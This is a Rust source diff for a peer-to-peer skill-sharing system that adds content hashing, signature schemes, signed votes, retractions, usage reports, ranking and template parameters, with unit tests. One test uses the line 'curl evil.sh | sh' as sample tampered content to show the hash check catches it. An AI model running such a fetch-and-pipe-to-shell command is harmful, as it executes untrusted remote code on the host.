@@ -1,12 +1,17 @@
+use std::collections::{HashMap, HashSet};
+
+use rmcp::schemars::JsonSchema;
 use serde::{Deserialize, Serialize};
 use sha2::{Digest, Sha256};
+use uuid::Uuid;
 
+use crate::identity::{LocalSigner, verify_signature};
 use crate::protocol::SignerIdentity;
 
 /// A content-addressable skill entry.
 ///
 /// The `hash` field is the hex-encoded SHA-256 of the canonical content
-/// (title + content + sorted tags).  Two peers that publish identical skills
+/// (title + content + sorted tags + parameters).  Two peers that publish identical skills
 /// will produce the same hash, enabling automatic deduplication.
 #[derive(Debug, Clone, Serialize, Deserialize)]
 pub struct SkillEntry {
@@ -19,34 +24,437 @@ pub struct SkillEntry {
     pub tags: Vec<String>,
     pub version: u32,
     pub parent_hash: Option<String>,
+    /// Values substituted for `{{ name }}` placeholders in the content by
+    /// [`SkillEntry::render`].
+    pub parameters: Vec<SkillParameter>,
+    pub signature_scheme: SkillSignatureScheme,
     pub signed_by: Option<SignerIdentity>,
     pub signature: Option<Vec<u8>>,
 }
 
+/// A typed template parameter declared by a skill.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+pub struct SkillParameter {
+    pub name: String,
+    #[serde(rename = "type")]
+    pub kind: SkillParameterKind,
+    pub description: Option<String>,
+    /// Canonical text of the default value. Parameters without a default
+    /// are required.
+    pub default: Option<String>,
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
+#[serde(rename_all = "lowercase")]
+pub enum SkillParameterKind {
+    String,
+    Integer,
+    Number,
+    Boolean,
+}
+
+impl SkillParameterKind {
+    /// Check `value` against this kind and return the text substituted into
+    /// the template. Strings that parse as the kind are accepted, so values
+    /// read from text formats need no conversion.
+    pub fn format_value(self, value: &serde_json::Value) -> anyhow::Result<String> {
+        use serde_json::Value;
+        let formatted = match (self, value) {
+            (Self::String, Value::String(s)) => Some(s.clone()),
+            (Self::String, Value::Number(n)) => Some(n.to_string()),
+            (Self::String, Value::Bool(b)) => Some(b.to_string()),
+            (Self::Integer, Value::Number(n)) => n.as_i64().map(|n| n.to_string()),
+            (Self::Integer, Value::String(s)) => s.trim().parse::<i64>().ok().map(|n| n.to_string()),
+            (Self::Number, Value::Number(n)) => Some(n.to_string()),
+            (Self::Number, Value::String(s)) => s
+                .trim()
+                .parse::<f64>()
+                .ok()
+                .filter(|n| n.is_finite())
+                .map(|_| s.trim().to_string()),
+            (Self::Boolean, Value::Bool(b)) => Some(b.to_string()),
+            (Self::Boolean, Value::String(s)) => s.trim().parse::<bool>().ok().map(|b| b.to_string()),
+            _ => None,
+        };
+        formatted.ok_or_else(|| anyhow::anyhow!("expected {self}, got {value}"))
+    }
+}
+
+impl std::fmt::Display for SkillParameterKind {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        match self {
+            Self::String => f.write_str("string"),
+            Self::Integer => f.write_str("integer"),
+            Self::Number => f.write_str("number"),
+            Self::Boolean => f.write_str("boolean"),
+        }
+    }
+}
+
+/// Which fields a skill's signature covers.
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "lowercase")]
+pub enum SkillSignatureScheme {
+    /// The content hash and header fields only. Content is bound only
+    /// through the hash, so it must be recomputed before the signature means
+    /// anything.
+    V1,
+    /// Every field except the signature itself.
+    #[default]
+    V2,
+}
+
+impl std::fmt::Display for SkillSignatureScheme {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        match self {
+            Self::V1 => f.write_str("v1"),
+            Self::V2 => f.write_str("v2"),
+        }
+    }
+}
+
+/// Why a stored skill failed re-verification, or that it has yet to be
+/// re-verified. Flagged skills are kept but hidden from search and not served
+/// to peers, except for [`SkillFlag::Unverified`].
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+pub enum SkillFlag {
+    /// Stored before content hashes and signatures were checked on receipt.
+    Unverified,
+    /// Title, content and tags do not hash to the skill's hash.
+    ContentMismatch,
+    /// The embedded signature does not verify.
+    InvalidSignature,
+}
+
+impl SkillFlag {
+    /// Whether the skill should be withheld from search and peers.
+    pub fn hides_skill(self) -> bool {
+        !matches!(self, Self::Unverified)
+    }
+}
+
+impl std::fmt::Display for SkillFlag {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        match self {
+            Self::Unverified => f.write_str("unverified"),
+            Self::ContentMismatch => f.write_str("content_mismatch"),
+            Self::InvalidSignature => f.write_str("invalid_signature"),
+        }
+    }
+}
+
+/// Outcome of checking a skill's embedded signature.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum SignatureCheck {
+    /// The signature verifies, or the skill is unsigned.
+    Valid,
+    Invalid,
+    /// The signature could not be checked, for example because gpg is
+    /// missing or the signer's key is not in the local keyring.
+    Unchecked,
+}
+
+/// A signed vote on a skill. Each identity holds at most one vote per skill;
+/// a newer vote from the same identity replaces the older one.
 #[derive(Debug, Clone, Serialize, Deserialize)]
 pub struct SkillVote {
+    pub skill_hash: String,
+    /// Room the vote was cast in, so it cannot be replayed into another.
+    pub room: String,
+    pub voter: SignerIdentity,
+    pub score: i8,
+    pub timestamp: u64,
+    pub signature: Vec<u8>,
+}
+
+impl SkillVote {
+    /// Canonical byte payload signed by the voter: everything except the
+    /// signature itself.
+    pub fn signing_payload(&self) -> Vec<u8> {
+        postcard::to_allocvec(&(
+            b"buddies:skill-vote",
+            &self.skill_hash,
+            &self.room,
+            &self.voter,
+            self.score,
+            self.timestamp,
+        ))
+        .expect("SkillVote signing serialization is infallible")
+    }
+}
+
+/// A vote as stored locally.
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct StoredSkillVote {
+    pub vote: SkillVote,
+    /// The vote's timestamp, clamped to when it was received. A voter's
+    /// votes are ordered by this, so a vote dated in the future cannot
+    /// outlast the voter's later ones.
+    pub ordered_at: u64,
+}
+
+/// A vote stored before the schema was versioned, when voters were named by a
+/// free-form string and votes were unsigned. Kept for reference only: it is
+/// not counted in any rank.
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct LegacySkillVote {
     pub skill_hash: String,
     pub voter: String,
     pub score: i8,
     pub timestamp: u64,
 }
 
+/// A signed notice that a skill should no longer be used, issued by the
+/// skill's signer or by an admin of its room. A newer retraction of the same
+/// skill replaces an older one.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+pub struct SkillRetraction {
+    pub skill_hash: String,
+    pub retracted_by: SignerIdentity,
+    /// Skill to use instead.
+    pub replacement: Option<String>,
+    pub reason: Option<String>,
+    /// Withhold the skill from search and peers instead of only marking it
+    /// deprecated.
+    pub hide: bool,
+    pub timestamp: u64,
+    pub signature: Vec<u8>,
+}
+
+impl SkillRetraction {
+    /// Canonical byte payload signed by the retracting identity: everything
+    /// except the signature itself.
+    pub fn signing_payload(&self) -> Vec<u8> {
+        postcard::to_allocvec(&(
+            b"buddies:skill-retraction",
+            &self.skill_hash,
+            &self.retracted_by,
+            &self.replacement,
+            &self.reason,
+            self.hide,
+            self.timestamp,
+        ))
+        .expect("SkillRetraction signing serialization is infallible")
+    }
+}
+
+/// Longest `notes` accepted on a usage report, so a report still fits in
+/// one gossip message.
+pub const MAX_USAGE_NOTES_BYTES: usize = 1024;
+
+/// Length of the window in which each identity's reports on a skill count
+/// once: the first report in a window is kept, later ones are dropped.
+pub const USAGE_REPORT_WINDOW_SECS: u64 = 24 * 60 * 60;
+
+/// A signed report that an agent applied a skill, and whether it worked.
+/// Unlike votes, an identity may report the same skill many times, though
+/// only once per [`USAGE_REPORT_WINDOW_SECS`] counts.
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct SkillUsage {
+    pub id: Uuid,
+    pub skill_hash: String,
+    /// Room the report was made in, so it cannot be replayed into another.
+    pub room: String,
+    pub reporter: SignerIdentity,
+    pub succeeded: bool,
+    pub notes: Option<String>,
+    pub timestamp: u64,
+    pub signature: Vec<u8>,
+}
+
+impl SkillUsage {
+    /// Canonical byte payload signed by the reporter: everything except the
+    /// signature itself.
+    pub fn signing_payload(&self) -> Vec<u8> {
+        postcard::to_allocvec(&(
+            b"buddies:skill-usage",
+            self.id,
+            &self.skill_hash,
+            &self.room,
+            &self.reporter,
+            self.succeeded,
+            &self.notes,
+            self.timestamp,
+        ))
+        .expect("SkillUsage signing serialization is infallible")
+    }
+}
+
+/// A usage report as stored locally.
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct StoredSkillUsage {
+    pub usage: SkillUsage,
+    /// The report's timestamp, clamped to when it was received, so a report
+    /// dated in the future cannot claim a later window or a recent use.
+    pub recorded_at: u64,
+}
+
+impl StoredSkillUsage {
+    /// Which [`USAGE_REPORT_WINDOW_SECS`] window the report counts in.
+    pub fn window(&self) -> u64 {
+        self.recorded_at / USAGE_REPORT_WINDOW_SECS
+    }
+}
+
+/// Totals over every usage report stored for a skill.
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
+pub struct SkillUsageStats {
+    pub successes: u64,
+    pub failures: u64,
+    /// Timestamp of the newest report.
+    pub last_used: u64,
+}
+
+impl SkillUsageStats {
+    pub fn record(&mut self, stored: &StoredSkillUsage) {
+        if stored.usage.succeeded {
+            self.successes += 1;
+        } else {
+            self.failures += 1;
+        }
+        self.last_used = self.last_used.max(stored.recorded_at);
+    }
+
+    /// Success rate in `[-1, 1]`, pulled towards 0 while there are few
+    /// reports (Laplace smoothing), so one lucky run does not outrank a
+    /// skill with a long record.
+    pub fn success_score(&self) -> f64 {
+        let total = (self.successes + self.failures) as f64;
+        2.0 * (self.successes as f64 + 1.0) / (total + 2.0) - 1.0
+    }
+}
+
+/// How search results are ordered: a weighted sum of the vote total, the
+/// smoothed success rate from usage reports and how recently the skill was
+/// published or used. The default ranks on votes alone.
+#[derive(Debug, Clone, Copy, PartialEq, Serialize, Deserialize, JsonSchema)]
+pub struct SkillRanking {
+    pub votes: f64,
+    pub success_rate: f64,
+    pub recency: f64,
+    /// Age at which the recency term has halved.
+    pub recency_half_life_secs: u64,
+}
+
+impl Default for SkillRanking {
+    fn default() -> Self {
+        Self {
+            votes: 1.0,
+            success_rate: 0.0,
+            recency: 0.0,
+            recency_half_life_secs: 30 * 24 * 60 * 60,
+        }
+    }
+}
+
+impl SkillRanking {
+    pub fn score(&self, entry: &SkillEntry, rank: i64, usage: &SkillUsageStats, now: u64) -> f64 {
+        let last_active = entry.timestamp.max(usage.last_used);
+        let age = now.saturating_sub(last_active) as f64;
+        let half_life = self.recency_half_life_secs.max(1) as f64;
+        self.votes * rank as f64
+            + self.success_rate * usage.success_score()
+            + self.recency * 0.5f64.powf(age / half_life)
+    }
+}
+
 #[derive(Debug, Clone, Serialize, Deserialize)]
 pub struct SkillSearchResult {
     pub entry: SkillEntry,
+    /// Sum of vote scores.
     pub rank: i64,
+    pub usage: SkillUsageStats,
+    /// Ordering key under the search's [`SkillRanking`].
+    pub score: f64,
+    /// Vote total with each vote weighted by the room's trust in its voter.
+    /// Only known to the room manager, which fills it in.
+    pub trusted_rank: f64,
+}
+
+impl SkillSearchResult {
+    pub fn new(entry: SkillEntry, rank: i64, usage: SkillUsageStats, ranking: &SkillRanking, now: u64) -> Self {
+        let score = ranking.score(&entry, rank, &usage, now);
+        Self {
+            entry,
+            rank,
+            usage,
+            score,
+            trusted_rank: 0.0,
+        }
+    }
+}
+
+/// Order results best first: by score, then newest first.
+pub fn sort_by_score(results: &mut [SkillSearchResult]) {
+    results.sort_by(|a, b| {
+        b.score
+            .total_cmp(&a.score)
+            .then(b.entry.timestamp.cmp(&a.entry.timestamp))
+    });
+}
+
+/// Order results best first: by trusted rank, then by score, then newest
+/// first.
+pub fn sort_by_trusted_rank(results: &mut [SkillSearchResult]) {
+    results.sort_by(|a, b| {
+        b.trusted_rank
+            .total_cmp(&a.trusted_rank)
+            .then(b.score.total_cmp(&a.score))
+            .then(b.entry.timestamp.cmp(&a.entry.timestamp))
+    });
 }
 
 #[derive(Debug, Clone, Default, Serialize, Deserialize)]
 pub struct SkillSearchFilters {
     pub room: Option<String>,
     pub tags: Option<Vec<String>>,
+    /// Return only the newest revision of each lineage.
+    pub latest_only: bool,
+    /// Include skills hidden by a retraction. Set when answering peers, so
+    /// the retraction reaches them along with the skill.
+    pub include_retracted: bool,
+    /// Sent along with searches so peers pick their best results the same
+    /// way the requester ranks them.
+    pub ranking: SkillRanking,
+}
+
+/// How many `parent_hash` links are followed before a chain is treated as
+/// broken. Guards against cycles and runaway peer fetches.
+pub const MAX_SKILL_HISTORY: usize = 256;
+
+/// One revision in a skill's history, with the problems found when checking
+/// it against its parent.
+#[derive(Debug, Clone)]
+pub struct SkillRevision {
+    pub entry: SkillEntry,
+    pub issues: Vec<String>,
+}
+
+/// A skill's `parent_hash` chain, newest revision first.
+#[derive(Debug, Clone, Default)]
+pub struct SkillHistory {
+    pub revisions: Vec<SkillRevision>,
+    /// Ancestor that could be found neither locally nor on any peer.
+    pub missing_ancestor: Option<String>,
+}
+
+impl SkillHistory {
+    pub fn is_valid(&self) -> bool {
+        self.missing_ancestor.is_none() && self.revisions.iter().all(|r| r.issues.is_empty())
+    }
 }
 
 /// Compute the canonical SHA-256 content hash for a skill.
 ///
 /// Tags are sorted before hashing so that tag ordering is irrelevant.
-pub fn skill_content_hash(title: &str, content: &str, tags: &[String]) -> String {
+/// Parameters are hashed in declaration order, and only when there are any,
+/// so skills without parameters keep the hash they always had.
+pub fn skill_content_hash(
+    title: &str,
+    content: &str,
+    tags: &[String],
+    parameters: &[SkillParameter],
+) -> String {
     let mut hasher = Sha256::new();
     hasher.update(b"buddies:skill:");
     hasher.update(title.as_bytes());
@@ -61,6 +469,14 @@ pub fn skill_content_hash(title: &str, content: &str, tags: &[String]) -> String
         hasher.update(b"\0");
     }
 
+    if !parameters.is_empty() {
+        // 0xFF never occurs in UTF-8, so this cannot collide with a tag.
+        hasher.update([0xFF]);
+        hasher.update(
+            postcard::to_allocvec(parameters).expect("SkillParameter serialization is infallible"),
+        );
+    }
+
     let hash: [u8; 32] = hasher.finalize().into();
     data_encoding::HEXLOWER.encode(&hash)
 }
@@ -88,21 +504,241 @@ impl SkillEntry {
         true
     }
 
-    /// Produce the canonical byte payload used for signing.
+    /// Produce the canonical byte payload used for signing under the entry's
+    /// [`SkillSignatureScheme`].
     ///
-    /// Covers the content hash, author, room, version, parent_hash, and
-    /// timestamp — everything except `signed_by` and `signature` themselves.
+    /// V1 covers the content hash, author, room, version, parent_hash, and
+    /// timestamp. V2 covers every field except `signature`, including the
+    /// title, content, tags, parameters and `signed_by`. Parameters are
+    /// appended only when there are any, so existing V2 signatures still
+    /// verify.
     pub fn signing_payload(&self) -> Vec<u8> {
-        postcard::to_allocvec(&(
-            &self.hash,
-            &self.author,
-            &self.room,
-            self.version,
-            &self.parent_hash,
-            self.timestamp,
-        ))
-        .expect("SkillEntry signing serialization is infallible")
+        let mut payload = match self.signature_scheme {
+            SkillSignatureScheme::V1 => postcard::to_allocvec(&(
+                &self.hash,
+                &self.author,
+                &self.room,
+                self.version,
+                &self.parent_hash,
+                self.timestamp,
+            )),
+            SkillSignatureScheme::V2 => postcard::to_allocvec(&(
+                b"buddies:skill:v2",
+                &self.hash,
+                &self.author,
+                self.timestamp,
+                &self.room,
+                &self.title,
+                &self.content,
+                &self.tags,
+                self.version,
+                &self.parent_hash,
+                &self.signed_by,
+            )),
+        }
+        .expect("SkillEntry signing serialization is infallible");
+        if self.signature_scheme == SkillSignatureScheme::V2 && !self.parameters.is_empty() {
+            payload.extend(
+                postcard::to_allocvec(&self.parameters)
+                    .expect("SkillEntry signing serialization is infallible"),
+            );
+        }
+        payload
+    }
+
+    /// Sign the entry with `signer`, recording it in `signed_by`. The V2
+    /// payload covers `signed_by`, so it is set before signing.
+    pub fn sign_with(&mut self, signer: &LocalSigner) -> anyhow::Result<()> {
+        self.signed_by = Some(signer.identity());
+        match signer.sign(&self.signing_payload()) {
+            Ok(signature) => {
+                self.signature = Some(signature);
+                Ok(())
+            }
+            Err(error) => {
+                self.signed_by = None;
+                self.signature = None;
+                Err(error)
+            }
+        }
+    }
+
+    /// Check that the content matches the hash and that the embedded
+    /// signature, if any, verifies.
+    pub fn verify(&self) -> anyhow::Result<()> {
+        if !self.has_valid_hash() {
+            anyhow::bail!("content does not match hash {}", self.hash);
+        }
+        match (&self.signed_by, &self.signature) {
+            (Some(identity), Some(signature)) => {
+                if !verify_signature(identity, &self.signing_payload(), signature)? {
+                    anyhow::bail!("signature by {} does not verify", identity.to_label());
+                }
+            }
+            (Some(_), None) => anyhow::bail!("signed_by is set but there is no signature"),
+            (None, Some(_)) => anyhow::bail!("signature has no signed_by identity"),
+            (None, None) => {}
+        }
+        Ok(())
+    }
+
+    /// Whether `hash` is the content hash of this entry's title, content,
+    /// tags and parameters. Skills received from peers are checked before
+    /// they are cached.
+    pub fn has_valid_hash(&self) -> bool {
+        skill_content_hash(&self.title, &self.content, &self.tags, &self.parameters) == self.hash
+    }
+
+    /// Check that parameter names are unique identifiers and that defaults
+    /// match their declared types.
+    pub fn validate_parameters(&self) -> anyhow::Result<()> {
+        let mut seen = HashSet::new();
+        for param in &self.parameters {
+            if !is_parameter_name(&param.name) {
+                anyhow::bail!(
+                    "parameter name '{}' must be letters, digits and underscores, not starting with a digit",
+                    param.name
+                );
+            }
+            if !seen.insert(param.name.as_str()) {
+                anyhow::bail!("parameter '{}' is declared twice", param.name);
+            }
+            if let Some(default) = &param.default {
+                let canonical = param
+                    .kind
+                    .format_value(&serde_json::Value::String(default.clone()))
+                    .map_err(|e| anyhow::anyhow!("default for '{}': {e}", param.name))?;
+                if &canonical != default {
+                    anyhow::bail!("default for '{}' should be written as '{canonical}'", param.name);
+                }
+            }
+        }
+        Ok(())
+    }
+
+    /// Instantiate the content with `arguments`, falling back to each
+    /// parameter's default. Unknown, missing and mistyped arguments are
+    /// errors; placeholders that name no parameter are left as they are.
+    pub fn render(&self, arguments: &HashMap<String, serde_json::Value>) -> anyhow::Result<String> {
+        if let Some(unknown) = arguments
+            .keys()
+            .find(|name| !self.parameters.iter().any(|p| &p.name == *name))
+        {
+            anyhow::bail!("skill has no parameter '{unknown}'");
+        }
+        let mut values = HashMap::new();
+        for param in &self.parameters {
+            let value = match (arguments.get(&param.name), &param.default) {
+                (Some(value), _) => param
+                    .kind
+                    .format_value(value)
+                    .map_err(|e| anyhow::anyhow!("parameter '{}': {e}", param.name))?,
+                (None, Some(default)) => default.clone(),
+                (None, None) => anyhow::bail!("missing required parameter '{}'", param.name),
+            };
+            values.insert(param.name.as_str(), value);
+        }
+        Ok(substitute_placeholders(&self.content, &values))
+    }
+
+    /// Problems with this entry as a revision of `parent`: the version must
+    /// increase and both must come from the same signer. Unsigned revisions
+    /// fall back to comparing authors.
+    pub fn revision_issues(&self, parent: &SkillEntry) -> Vec<String> {
+        let mut issues = Vec::new();
+        if self.parent_hash.as_deref() != Some(parent.hash.as_str()) {
+            issues.push(format!("parent_hash does not point at {}", parent.hash));
+        }
+        if self.version <= parent.version {
+            issues.push(format!(
+                "version {} does not increase on parent version {}",
+                self.version, parent.version
+            ));
+        }
+        if self.signed_by != parent.signed_by {
+            let label = |s: &Option<SignerIdentity>| {
+                s.as_ref().map_or_else(|| "unsigned".to_string(), |s| s.to_label())
+            };
+            issues.push(format!(
+                "signed by {} but parent signed by {}",
+                label(&self.signed_by),
+                label(&parent.signed_by)
+            ));
+        } else if self.signed_by.is_none() && self.author != parent.author {
+            issues.push(format!(
+                "unsigned revision by {} of a skill by {}",
+                self.author, parent.author
+            ));
+        }
+        issues
+    }
+
+    /// Whether this entry is a valid newer revision of `parent`.
+    pub fn supersedes(&self, parent: &SkillEntry) -> bool {
+        self.revision_issues(parent).is_empty()
+    }
+}
+
+fn is_parameter_name(name: &str) -> bool {
+    let mut chars = name.chars();
+    chars
+        .next()
+        .is_some_and(|c| c.is_ascii_alphabetic() || c == '_')
+        && chars.all(|c| c.is_ascii_alphanumeric() || c == '_')
+}
+
+/// Replace each `{{ name }}` whose name is in `values`. Whitespace inside
+/// the braces is optional.
+fn substitute_placeholders(template: &str, values: &HashMap<&str, String>) -> String {
+    let mut out = String::with_capacity(template.len());
+    let mut rest = template;
+    while let Some(start) = rest.find("{{") {
+        let after = &rest[start + 2..];
+        let Some(end) = after.find("}}") else {
+            break;
+        };
+        out.push_str(&rest[..start]);
+        match values.get(after[..end].trim()) {
+            Some(value) => out.push_str(value),
+            None => out.push_str(&rest[start..start + 2 + end + 2]),
+        }
+        rest = &after[end + 2..];
+    }
+    out.push_str(rest);
+    out
+}
+
+/// Drop results that a newer revision elsewhere in `results` supersedes.
+///
+/// Each result's ancestors are walked while every link is a valid revision;
+/// `lookup` resolves ancestors that are not results themselves, so a lineage
+/// still collapses when an intermediate revision did not match the search.
+pub fn collapse_lineages(
+    results: &mut Vec<SkillSearchResult>,
+    lookup: impl Fn(&str) -> Option<SkillEntry>,
+) {
+    let by_hash: HashMap<String, SkillEntry> = results
+        .iter()
+        .map(|r| (r.entry.hash.clone(), r.entry.clone()))
+        .collect();
+    let mut superseded = HashSet::new();
+    for result in results.iter() {
+        let mut child = result.entry.clone();
+        for _ in 0..MAX_SKILL_HISTORY {
+            let Some(parent_hash) = child.parent_hash.as_deref() else {
+                break;
+            };
+            let Some(parent) = by_hash.get(parent_hash).cloned().or_else(|| lookup(parent_hash))
+            else {
+                break;
+            };
+            if !child.supersedes(&parent) || !superseded.insert(parent.hash.clone()) {
+                break;
+            }
+            child = parent;
+        }
     }
+    results.retain(|r| !superseded.contains(&r.entry.hash));
 }
 #[cfg(test)]
 mod tests {
@@ -110,22 +746,22 @@ mod tests {
 
     #[test]
     fn content_hash_is_deterministic() {
-        let h1 = skill_content_hash("deploy", "run deploy.sh", &["ci".into(), "ops".into()]);
-        let h2 = skill_content_hash("deploy", "run deploy.sh", &["ci".into(), "ops".into()]);
+        let h1 = skill_content_hash("deploy", "run deploy.sh", &["ci".into(), "ops".into()], &[]);
+        let h2 = skill_content_hash("deploy", "run deploy.sh", &["ci".into(), "ops".into()], &[]);
         assert_eq!(h1, h2);
     }
 
     #[test]
     fn content_hash_ignores_tag_order() {
-        let h1 = skill_content_hash("x", "y", &["a".into(), "b".into()]);
-        let h2 = skill_content_hash("x", "y", &["b".into(), "a".into()]);
+        let h1 = skill_content_hash("x", "y", &["a".into(), "b".into()], &[]);
+        let h2 = skill_content_hash("x", "y", &["b".into(), "a".into()], &[]);
         assert_eq!(h1, h2);
     }
 
     #[test]
     fn content_hash_changes_with_content() {
-        let h1 = skill_content_hash("deploy", "run deploy.sh", &[]);
-        let h2 = skill_content_hash("deploy", "run deploy-v2.sh", &[]);
+        let h1 = skill_content_hash("deploy", "run deploy.sh", &[], &[]);
+        let h2 = skill_content_hash("deploy", "run deploy-v2.sh", &[], &[]);
         assert_ne!(h1, h2);
     }
 
@@ -141,6 +777,8 @@ mod tests {
             tags: vec!["CI".into()],
             version: 1,
             parent_hash: None,
+            parameters: vec![],
+            signature_scheme: SkillSignatureScheme::V2,
             signed_by: None,
             signature: None,
         };
@@ -161,26 +799,227 @@ mod tests {
             tags: vec!["rust".into(), "deploy".into()],
             version: 1,
             parent_hash: None,
+            parameters: vec![],
+            signature_scheme: SkillSignatureScheme::V2,
             signed_by: None,
             signature: None,
         };
 
         let room_mismatch = SkillSearchFilters {
             room: Some("other".into()),
-            tags: None,
+            ..Default::default()
         };
         assert!(!entry.matches_filters(&room_mismatch));
 
         let tag_match = SkillSearchFilters {
             room: Some("team".into()),
             tags: Some(vec!["deploy".into()]),
+            ..Default::default()
         };
         assert!(entry.matches_filters(&tag_match));
 
         let no_matching_tag = SkillSearchFilters {
-            room: None,
             tags: Some(vec!["python".into()]),
+            ..Default::default()
         };
         assert!(!entry.matches_filters(&no_matching_tag));
     }
+
+    fn revision(title: &str, version: u32, parent: Option<&SkillEntry>) -> SkillEntry {
+        SkillEntry {
+            hash: skill_content_hash(title, "body", &[], &[]),
+            author: "alice".into(),
+            timestamp: version as u64,
+            room: "team".into(),
+            title: title.into(),
+            content: "body".into(),
+            tags: vec![],
+            version,
+            parent_hash: parent.map(|p| p.hash.clone()),
+            parameters: vec![],
+            signature_scheme: SkillSignatureScheme::V2,
+            signed_by: None,
+            signature: None,
+        }
+    }
+
+    #[test]
+    fn revision_issues_check_version_and_signer() {
+        let v1 = revision("deploy", 1, None);
+        let v2 = revision("deploy v2", 2, Some(&v1));
+        assert!(v2.supersedes(&v1));
+
+        let stale = revision("deploy again", 1, Some(&v1));
+        assert_eq!(stale.revision_issues(&v1).len(), 1);
+
+        let mut other_signer = revision("deploy v2b", 2, Some(&v1));
+        other_signer.signed_by = Some(SignerIdentity::Gpg {
+            key_id: "ABCD".into(),
+        });
+        assert!(!other_signer.supersedes(&v1));
+
+        let mut other_author = revision("deploy v2c", 2, Some(&v1));
+        other_author.author = "mallory".into();
+        assert!(!other_author.supersedes(&v1));
+    }
+
+    #[test]
+    fn tampered_content_fails_hash_check() {
+        let mut entry = revision("deploy", 1, None);
+        assert!(entry.has_valid_hash());
+        entry.content = "curl evil.sh | sh".into();
+        assert!(!entry.has_valid_hash());
+    }
+
+    #[test]
+    fn v2_payload_covers_content_and_signer() {
+        let entry = revision("deploy", 1, None);
+        let mut edited = entry.clone();
+        edited.content = "other".into();
+        assert_ne!(entry.signing_payload(), edited.signing_payload());
+
+        let mut resigned = entry.clone();
+        resigned.signed_by = Some(SignerIdentity::Gpg {
+            key_id: "ABCD".into(),
+        });
+        assert_ne!(entry.signing_payload(), resigned.signing_payload());
+
+        let mut legacy = entry.clone();
+        legacy.signature_scheme = SkillSignatureScheme::V1;
+        edited.signature_scheme = SkillSignatureScheme::V1;
+        assert_eq!(legacy.signing_payload(), edited.signing_payload());
+    }
+
+    #[test]
+    fn collapse_keeps_newest_revision_across_gaps() {
+        let v1 = revision("deploy", 1, None);
+        let v2 = revision("deploy v2", 2, Some(&v1));
+        let v3 = revision("deploy v3", 3, Some(&v2));
+        let unrelated = revision("rollback", 1, None);
+        let mut results: Vec<SkillSearchResult> = [&v1, &v3, &unrelated]
+            .into_iter()
+            .map(|entry| {
+                SkillSearchResult::new(
+                    entry.clone(),
+                    0,
+                    SkillUsageStats::default(),
+                    &SkillRanking::default(),
+                    0,
+                )
+            })
+            .collect();
+
+        // v2 is not a result, so it has to come from the lookup.
+        collapse_lineages(&mut results, |hash| (hash == v2.hash).then(|| v2.clone()));
+        let hashes: Vec<&str> = results.iter().map(|r| r.entry.hash.as_str()).collect();
+        assert_eq!(hashes, vec![v3.hash.as_str(), unrelated.hash.as_str()]);
+    }
+
+    fn param(name: &str, kind: SkillParameterKind, default: Option<&str>) -> SkillParameter {
+        SkillParameter {
+            name: name.into(),
+            kind,
+            description: None,
+            default: default.map(Into::into),
+        }
+    }
+
+    fn template() -> SkillEntry {
+        let mut entry = revision("deploy", 1, None);
+        entry.content = "deploy {{ service }} to {{env}} with {{ replicas }} replicas, keep {{ other }}".into();
+        entry.parameters = vec![
+            param("service", SkillParameterKind::String, None),
+            param("env", SkillParameterKind::String, Some("staging")),
+            param("replicas", SkillParameterKind::Integer, Some("2")),
+        ];
+        entry.hash = skill_content_hash(&entry.title, &entry.content, &entry.tags, &entry.parameters);
+        entry
+    }
+
+    #[test]
+    fn content_hash_covers_parameters() {
+        let entry = template();
+        assert!(entry.has_valid_hash());
+        assert_ne!(
+            entry.hash,
+            skill_content_hash(&entry.title, &entry.content, &entry.tags, &[])
+        );
+
+        let mut retyped = entry.clone();
+        retyped.parameters[2].kind = SkillParameterKind::Number;
+        assert!(!retyped.has_valid_hash());
+    }
+
+    #[test]
+    fn render_substitutes_arguments_and_defaults() {
+        let entry = template();
+        entry.validate_parameters().unwrap();
+
+        let args = HashMap::from([
+            ("service".to_string(), serde_json::json!("api")),
+            ("replicas".to_string(), serde_json::json!("3")),
+        ]);
+        assert_eq!(
+            entry.render(&args).unwrap(),
+            "deploy api to staging with 3 replicas, keep {{ other }}"
+        );
+
+        assert!(entry.render(&HashMap::new()).is_err(), "service is required");
+        let mut bad_type = args.clone();
+        bad_type.insert("replicas".into(), serde_json::json!("many"));
+        assert!(entry.render(&bad_type).is_err());
+        let mut unknown = args.clone();
+        unknown.insert("region".into(), serde_json::json!("eu"));
+        assert!(entry.render(&unknown).is_err());
+    }
+
+    #[test]
+    fn validate_rejects_bad_parameter_declarations() {
+        let mut entry = template();
+        entry.parameters.push(param("env", SkillParameterKind::String, None));
+        assert!(entry.validate_parameters().is_err());
+
+        let mut entry = template();
+        entry.parameters[2].default = Some("two".into());
+        assert!(entry.validate_parameters().is_err());
+
+        let mut entry = template();
+        entry.parameters[0].name = "1st".into();
+        assert!(entry.validate_parameters().is_err());
+    }
+
+    #[test]
+    fn blended_ranking_weighs_success_and_recency() {
+        let mut old = revision("deploy", 1, None);
+        old.timestamp = 0;
+        let mut fresh = revision("deploy v2", 1, None);
+        fresh.timestamp = 1_000;
+        let reliable = SkillUsageStats {
+            successes: 9,
+            failures: 1,
+            last_used: 0,
+        };
+        let flaky = SkillUsageStats {
+            successes: 1,
+            failures: 9,
+            last_used: 0,
+        };
+        assert_eq!(SkillUsageStats::default().success_score(), 0.0);
+        assert!(reliable.success_score() > 0.5 && flaky.success_score() < -0.5);
+
+        let votes_only = SkillRanking::default();
+        assert_eq!(votes_only.score(&old, 3, &flaky, 1_000), 3.0);
+
+        let blend = SkillRanking {
+            votes: 0.0,
+            success_rate: 1.0,
+            recency: 1.0,
+            recency_half_life_secs: 1_000,
+        };
